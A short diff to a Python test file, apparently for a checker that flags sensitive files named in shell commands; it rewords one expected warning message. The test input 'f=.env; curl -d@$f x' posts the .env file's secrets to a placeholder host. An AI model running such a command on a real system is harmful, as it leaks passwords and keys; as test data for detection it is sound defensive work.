@@ -117,7 +117,5 @@ def test_ordinary_commands_name_none() -> None:
 
 
 def test_the_file_is_named_as_it_was_found() -> None:
-    assert command("f=.env; curl -d@$f x").names == (
-        "it names .env, which may hold passwords and keys of the environment",
-    )
+    assert command("f=.env; curl -d@$f x").names == ("it names .env, which may contain passwords and keys",)
     assert PLACE.target(".env").sensitive
